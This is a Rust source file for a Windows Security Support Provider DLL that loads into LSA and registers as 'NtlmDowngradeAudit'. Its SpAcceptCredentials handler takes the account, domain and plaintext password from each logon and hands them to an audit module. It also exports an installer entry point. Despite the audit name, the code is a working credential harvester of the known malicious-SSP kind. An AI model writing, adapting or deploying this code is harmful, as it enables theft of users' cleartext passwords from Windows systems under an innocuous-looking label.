//! SSP entry points: LSA calls `SpLsaModeInitialize` on load, `SpAcceptCredentials` per logon.

#![allow(non_snake_case)]

mod audit;
mod dlog;
mod install;
mod wire;

use std::ptr;
use windows_sys::Win32::Foundation::{NTSTATUS, UNICODE_STRING};
use windows_sys::Win32::Security::Authentication::Identity::{
    SecPkgInfoW, SECPKG_FUNCTION_TABLE, SECPKG_PARAMETERS, SECPKG_PRIMARY_CRED,
    SECPKG_SUPPLEMENTAL_CRED, SECURITY_LOGON_TYPE, LSA_SECPKG_FUNCTION_TABLE,
};

pub use install::DllInstall;

const STATUS_SUCCESS: NTSTATUS = 0;
const SECPKG_INTERFACE_VERSION: u32 = 0x0001_0000;

static mut NAME: [u16; 21] = [0; 21];
static mut TABLE: SECPKG_FUNCTION_TABLE = unsafe { std::mem::zeroed() };

pub(crate) unsafe fn ustr(s: *const UNICODE_STRING) -> String {
    if s.is_null() || (*s).Buffer.is_null() {
        return String::new();
    }
    let len = ((*s).Length / 2) as usize;
    String::from_utf16_lossy(std::slice::from_raw_parts((*s).Buffer, len))
}

unsafe extern "system" fn sp_initialize(
    _package_id: usize,
    _parameters: *const SECPKG_PARAMETERS,
    _lsa: *const LSA_SECPKG_FUNCTION_TABLE,
) -> NTSTATUS {
    audit::start();
    STATUS_SUCCESS
}

unsafe extern "system" fn sp_get_info(info: *mut SecPkgInfoW) -> NTSTATUS {
    let name: Vec<u16> = "NtlmDowngradeAudit\0".encode_utf16().collect();
    NAME[..name.len()].copy_from_slice(&name);
    (*info).fCapabilities = 0x0000_0800 | 0x0000_0400; // SECPKG_FLAG_ACCEPT_WIN32_NAME | CONNECTION
    (*info).wVersion = 1;
    (*info).wRPCID = 0xFFFF;
    (*info).Name = ptr::addr_of_mut!(NAME) as *mut u16;
    (*info).Comment = ptr::addr_of_mut!(NAME) as *mut u16;
    STATUS_SUCCESS
}

unsafe extern "system" fn sp_accept_credentials(
    logon_type: SECURITY_LOGON_TYPE,
    account: *const UNICODE_STRING,
    primary: *const SECPKG_PRIMARY_CRED,
    _supplemental: *const SECPKG_SUPPLEMENTAL_CRED,
) -> NTSTATUS {
    if primary.is_null() {
        return STATUS_SUCCESS;
    }
    let p = &*primary;
    audit::observe(audit::Logon {
        kind: logon_type as u32,
        account: ustr(account),
        domain: ustr(&p.DomainName),
        secret: ustr(&p.Password),
        flags: p.Flags,
    });
    STATUS_SUCCESS
}

#[no_mangle]
pub unsafe extern "system" fn SpLsaModeInitialize(
    _lsa_version: u32,
    package_version: *mut u32,
    tables: *mut *mut SECPKG_FUNCTION_TABLE,
    table_count: *mut u32,
) -> NTSTATUS {
    TABLE.Initialize = Some(sp_initialize);
    TABLE.GetInfo = Some(sp_get_info);
    TABLE.AcceptCredentials = Some(sp_accept_credentials);
    *package_version = SECPKG_INTERFACE_VERSION;
    *tables = ptr::addr_of_mut!(TABLE);
    *table_count = 1;
    STATUS_SUCCESS
}
